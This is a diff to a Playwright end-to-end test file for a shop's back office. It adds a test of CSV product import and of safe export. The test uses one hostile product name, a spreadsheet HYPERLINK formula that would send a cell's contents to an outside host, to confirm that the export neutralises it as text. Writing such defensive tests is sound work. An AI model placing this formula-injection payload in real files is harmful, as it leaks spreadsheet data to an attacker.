@@ -2,7 +2,9 @@
  * The back office's catalogue in Chromium: a manager changes a price and a stock level in place
  * and the shop's product page shows both within a second; a packer cannot change a price (403)
  * and is told the products page is not for their role; the products, slots, promo codes and
- * customers pages pass axe at a phone's and a desktop's width (screenshots in test-results).
+ * customers pages pass axe at a phone's and a desktop's width (screenshots in test-results); a
+ * manager imports a CSV with a hostile name and a bad row, sees the summary and the refused row,
+ * stock is not taken from the file unasked, and the export keeps the name from running as a formula.
  */
 import AxeBuilder from '@axe-core/playwright';
 import { expect, type Page, test } from '@playwright/test';
@@ -17,6 +19,11 @@ async function signInStaff(page: Page, mobile: string): Promise<void> {
   await page.goto('/admin/login');
   await staffSignInByApi(page, mobile, originHeader(page));
 }
+
+const HOSTILE = '-1+HYPERLINK("http://x?d="&A2,"x")';
+
+/** A CSV cell as RFC 4180 writes it. */
+const csvCell = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
 
 async function serious(page: Page): Promise<string[]> {
   const { violations } = await new AxeBuilder({ page }).analyze();
@@ -108,5 +115,60 @@ for (const viewport of [
       });
       expect(await serious(page), p.path).toEqual([]);
     }
+  });
+}
+
+for (const viewport of [
+  { width: 375, height: 812 },
+  { width: 1280, height: 900 },
+]) {
+  test(`a manager imports a CSV and reads its summary; the export keeps formulas out (${viewport.width}px)`, async ({
+    page,
+  }) => {
+    test.setTimeout(90_000);
+    await page.setViewportSize(viewport);
+    await signInStaff(page, MANAGER);
+    const sku = `E2E-CSV-${viewport.width}`;
+    const header = (await (await page.request.get('/api/admin/products/export')).text()).split('\r\n')[0]!;
+    const row = (cells: Record<string, string>) =>
+      header
+        .split(',')
+        .map((column) => csvCell(cells[column] ?? ''))
+        .join(',');
+    const place = { category: 'E2E imports', sub_category: 'Hostile names', market_price: '12.00', stock: '5' };
+    const file = [
+      header,
+      row({ ...place, sku, product: HOSTILE, sale_price: '10.00' }),
+      row({ ...place, sku: `${sku}-BAD`, product: 'Too dear', sale_price: '20.00' }),
+    ].join('\r\n');
+
+    await page.goto('/admin/products');
+    await hydrated(page, 'AdminProducts');
+    await page
+      .getByLabel('CSV file')
+      .setInputFiles({ name: 'products.csv', mimeType: 'text/csv', buffer: Buffer.from(file) });
+    await expect(page.getByRole('checkbox', { name: 'Update stock from the file' })).not.toBeChecked();
+    await page.getByRole('button', { name: 'Import', exact: true }).click();
+    const summary = page.getByRole('status').filter({ hasText: 'created' });
+    await expect(summary).toContainText('1 created, 0 updated, 0 unchanged, 1 skipped.');
+    await expect(summary).toContainText('Stock was left as it was.');
+    await expect(page.getByRole('cell', { name: 'sale_price 20.00 is above market_price 12.00' })).toBeVisible();
+
+    // The new product has the shop's starting stock, not the file's 5.
+    const listed = await page.request.get(`/api/admin/products?q=${sku}&filter=all`);
+    const imported = ((await listed.json()).data.products as { sku: string; name: string; stock: number }[]).find(
+      (p) => p.sku === sku,
+    );
+    expect(imported).toMatchObject({ name: HOSTILE, stock: 100 });
+    // The export writes the name with a leading apostrophe: a spreadsheet shows it as text.
+    const exported = await (await page.request.get('/api/admin/products/export')).text();
+    expect(exported).toContain(`${sku},,${csvCell(`'${HOSTILE}`)},`);
+
+    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
+    expect(overflow).toBeLessThanOrEqual(0);
+    await page
+      .getByRole('region', { name: 'Import a CSV' })
+      .screenshot({ path: test.info().outputPath(`admin-products-import-${viewport.width}.png`) });
+    expect(await serious(page)).toEqual([]);
   });
 }
